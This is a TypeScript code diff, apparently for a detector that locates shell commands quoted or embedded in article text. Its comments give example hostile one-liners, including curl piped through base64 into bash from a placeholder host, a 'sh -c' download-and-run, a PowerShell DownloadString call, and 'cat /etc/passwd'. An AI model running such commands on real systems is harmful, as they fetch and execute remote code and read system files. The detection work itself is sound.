@@ -245,6 +245,18 @@ function fromProseLines(doc: ArticleDocument, out: Candidate[]): void {
     const labelled = afterLabel(line.text, col);
     const startCol = labelled ?? col;
     const check = checkCommand(tokenize(line.text.slice(startCol)));
+    const inQuotes = check.ok ? quotedWhole(line.text.slice(startCol)) : null;
+    if (inQuotes) {
+      const from = line.start + startCol + inQuotes.start;
+      for (const span of adjacent(commandSpans(doc.content, from, from + inQuotes.body.length)))
+        out.push({
+          start: span.start,
+          end: span.end,
+          program: span.program ?? inQuotes.program,
+          confidence: labelled === null ? 0.8 : 0.75,
+        });
+      continue;
+    }
     if (check.ok && !(startCol === 0 && AMBIGUOUS_COMMANDS.has(programName(check.program)) && continuesSentence(doc, i))) {
       const last = continueLines(doc, i, doc.lines.length - 1, false);
       const end = stripTrailingComment(doc, line.start + startCol, trimmedEnd(doc, doc.lines[last]));
@@ -259,6 +271,27 @@ function fromProseLines(doc: ArticleDocument, out: Candidate[]): void {
     }
     fromQuotedAndEmbedded(doc, line, out, col);
   }
+}
+
+// "… command line (that) initiated the process: C:\\…\\x.exe", "The command line was: %TEMP%\\a.exe".
+const NAMED_COMMAND_LINE =
+  /\bcommand[\s-]?line\b[^.:\n]{0,60}?(?::|\s(?:was|is|reads|read))\s+((?:[A-Za-z]:|%\w+%)\\(?:[^\s"'<>|\\]+\\)*[^\s"'<>|\\]+\.exe)(?=$|\s|[,;]|\.(?:\s|$))/gi;
+
+// A whole line in quotes: "curl -s https://x/a | base64 -d | bash", ending the line or its sentence.
+const WHOLE_QUOTE = /^(?:"((?:[^"\\\n]|\\.)+)"|“([^“”\n]+)”|'([^'\n]+)')[.,;]?\s*$/;
+
+/**
+ * The command a line (or what follows its label) sets in quotes as a whole: the quotes are the article's, not the
+ * command's. Not a lone quoted program path ("C:\\Program Files\\x.exe"), whose quotes hold its spaces.
+ */
+function quotedWhole(text: string): { start: number; body: string; program: string } | null {
+  const m = WHOLE_QUOTE.exec(text);
+  const body = m ? ((m[1] ?? m[2] ?? m[3]) as string) : '';
+  if (!m || !/\s/.test(body.trim())) return null;
+  const words = tokenize(body);
+  if (words[0] !== body.trimStart().split(/\s+/)[0]) return null;
+  const check = checkCommand(words);
+  return check.ok ? { start: 1, body, program: check.program } : null;
 }
 
 const TABLE_ROW = /^\s*\|.*\|\s*$/;
@@ -334,17 +367,36 @@ function afterLabel(text: string, from: number): number | null {
 }
 
 const QUOTED = /(?<=^|[\s(:,])(["'“‘])([^"'“”‘’\n]{3,400}?)(["'”’])(?=$|[\s).,;:])/g;
+// A quoted one-liner that quotes within itself: "bash -c 'curl … | base64 -d | sh'", 'echo "…" | base64 -d | bash',
+// "/bin/bash -c \"$(curl …)\"". Each style of quote closes only on its own kind (an escaped one does not close it).
+const QUOTED_NESTED =
+  /(?<=^|[\s(:,])(?:"((?:[^"\\\n]|\\.){3,400}?)"|“([^“”\n]{3,400}?)”|'([^'\n]{3,400}?)'|‘([^‘’\n]{3,400}?)’)(?=$|[\s).,;:])/g;
 
 function fromQuotedAndEmbedded(doc: ArticleDocument, line: Line, out: Candidate[], fromCol: number): void {
   const text = line.text;
+  // Columns of the quoted commands found: a program inside one is not read again as a command embedded in the sentence.
+  const quoted: Array<[number, number]> = [];
+  const take = (index: number, body: string) => {
+    if (doc.isInCode(line.start + index)) return;
+    const check = checkCommand(tokenize(body));
+    if (!check.ok) return;
+    const start = line.start + index + 1;
+    out.push({ start, end: start + body.length, program: check.program, confidence: 0.75, fragment: true });
+    quoted.push([index + 1, index + 1 + body.length]);
+  };
   QUOTED.lastIndex = 0;
-  for (let m = QUOTED.exec(text); m; m = QUOTED.exec(text)) {
-    if (doc.isInCode(line.start + m.index)) continue;
-    const check = checkCommand(tokenize(m[2]));
-    if (check.ok) {
-      const start = line.start + m.index + 1;
-      out.push({ start, end: start + m[2].length, program: check.program, confidence: 0.75, fragment: true });
-    }
+  for (let m = QUOTED.exec(text); m; m = QUOTED.exec(text)) take(m.index, m[2] as string);
+  for (const m of text.matchAll(QUOTED_NESTED)) {
+    const body = (m[1] ?? m[2] ?? m[3] ?? m[4]) as string;
+    if (/["'“”‘’]/.test(body)) take(m.index, body);
+  }
+  // "the following command line initiated the process: C:\\Users\\x\\Downloads\\host.exe": a program the sentence
+  // calls a command line is one even without arguments (with them, the reading below finds the longer line).
+  for (const m of text.matchAll(NAMED_COMMAND_LINE)) {
+    const path = m[1] as string;
+    const index = (m.index as number) + m[0].length - path.length;
+    if (index < fromCol || doc.isInCode(line.start + index)) continue;
+    out.push({ start: line.start + index, end: line.start + index + path.length, program: path, confidence: 0.7, fragment: true });
   }
   // Commands embedded in a sentence: a distinctive program followed directly by a strong argument.
   const tokenRe = /\S+/g;
@@ -358,6 +410,7 @@ function fromQuotedAndEmbedded(doc: ArticleDocument, line: Line, out: Candidate[
     const joined = /^"/.test(tokens[t].text) && spaced[0] !== tokens[t].text ? window.length - spaced.length + 1 : 1;
     const word = joined > 1 ? (spaced[0] as string) : tokens[t].text.replace(/^\(/, '');
     if ((joined === 1 && /^["'`“‘]/.test(word)) || doc.isInCode(line.start + tokens[t].start)) continue;
+    if (quoted.some(([from, to]) => tokens[t].start >= from && tokens[t].start < to)) continue;
     if (t + joined >= tokens.length) continue;
     const next = tokens[t + joined].text;
     const sub = SUBCOMMANDS[programName(word)]?.has(next.toLowerCase()) ?? false;
@@ -390,9 +443,12 @@ function fromQuotedAndEmbedded(doc: ArticleDocument, line: Line, out: Candidate[
       : joined > 1
         ? tokens[t].start
         : tokens[t].start + (tokens[t].text.length - word.length);
-    const spans = adjacent(
-      commandSpans(doc.content, line.start + startCol, Math.min(line.end, line.start + startCol + EMBEDDED_RUN), { proseStop: true }),
-    );
+    // "The one-liner (curl -s http://x/a | bash) downloads …": a command the sentence opened a bracket for ends at its close.
+    // Not "(New-Object Net.WebClient).DownloadString(…)", where the bracket is the command's own.
+    const bracket = /^\(/.test(tokens[t].text) && joined === 1 ? closingBracket(text, startCol) : -1;
+    const closing = bracket >= 0 && /^(?:$|[\s,;:])/.test(text.slice(bracket + 1, bracket + 2)) ? bracket : -1;
+    const runEnd = closing >= 0 ? line.start + closing : Math.min(line.end, line.start + startCol + EMBEDDED_RUN);
+    const spans = adjacent(commandSpans(doc.content, line.start + startCol, runEnd, { proseStop: true }));
     let endAt = line.start + startCol;
     for (const span of spans) {
       let spanEnd = span.end;
@@ -417,6 +473,9 @@ function fromQuotedAndEmbedded(doc: ArticleDocument, line: Line, out: Candidate[
       // A command set in bold ("… was **/bin/sh -c x**") ends before the closing marker.
       const boldOpen = ((doc.content.slice(line.start, span.start).match(/\*\*/g) ?? []).length & 1) === 1;
       if (boldOpen && doc.content.slice(spanEnd - 2, spanEnd) === '**') spanEnd -= 2;
+      // A quote the sentence closed after the command ("‘echo "…" | base64 -d | bash’") is not the command's.
+      const last = doc.content[spanEnd - 1] as string;
+      if (/["'’”]/.test(last) && countOf(doc.content.slice(span.start, spanEnd), last) % 2 === 1 && !/[‘“]/.test(last)) spanEnd--;
       if (spanEnd > span.start + (span.program ?? word).length)
         out.push({ start: span.start, end: spanEnd, program: span.program ?? word, confidence: 0.6, fragment: true });
       endAt = Math.max(endAt, span.end);
@@ -435,7 +494,8 @@ const FIND_TEST =
 /**
  * A file tool whose name is also a word or an abbreviation (`rm`, `find`, `cat`, `ln`, `touch`), quoted in a sentence
  * with the arguments only its command line has: `rm -rf /tmp/.x`, `find / -name "*.sh" -delete`, `cat /etc/passwd`,
- * `ln -s /tmp/x /usr/bin/y`. Not "you will find /etc/passwd changed" (no test follows the path) nor a bare `rm -rf`.
+ * `ln -s /tmp/x /usr/bin/y`, and a shell with its quoted script (`sh -c "…"`). Not "you will find /etc/passwd changed" (no
+ * test follows the path) nor a bare `rm -rf`.
  */
 function shapedFileCommand(word: string, rest: string[]): boolean {
   const [first = '', second = ''] = rest;
@@ -450,6 +510,13 @@ function shapedFileCommand(word: string, rest: string[]): boolean {
       return LONG_POSIX_PATH.test(afterSwitches);
     case 'ln':
       return /^-[sfnv]{1,4}$/.test(first) && POSIX_PATH.test(second);
+    // A shell handed a quoted script: `sh -c "curl -fsSL http://x/a | sh"` (not "sh -c" named as an option in prose).
+    case 'sh':
+    case 'bash':
+    case 'zsh':
+    case 'dash':
+    case 'ksh':
+      return /^-[a-z]{0,3}c$/.test(first) && /^["'“‘]\S/.test(second);
     default:
       return false;
   }
@@ -469,6 +536,21 @@ function adjacent(spans: CommandSpan[]): CommandSpan[] {
     out.push(span);
   }
   return out;
+}
+
+/** Column of the ")" that closes a bracket opened just before `from`, outside quotes; -1 when the line never closes it. */
+function closingBracket(text: string, from: number): number {
+  let depth = 0;
+  let quote: string | null = null;
+  for (let i = from; i < text.length; i++) {
+    const ch = text[i] as string;
+    if (quote) {
+      if (ch === quote) quote = null;
+    } else if (ch === '"' || ch === "'") quote = ch;
+    else if (ch === '(') depth++;
+    else if (ch === ')' && depth-- === 0) return i;
+  }
+  return -1;
 }
 
 function balancedParen(text: string): boolean {
@@ -528,6 +610,12 @@ function parens(lines: string[]): number {
     else if (ch === ')') depth--;
   }
   return depth;
+}
+
+function countOf(text: string, ch: string): number {
+  let n = 0;
+  for (const c of text) if (c === ch) n++;
+  return n;
 }
 
 function countQuotes(text: string): number {
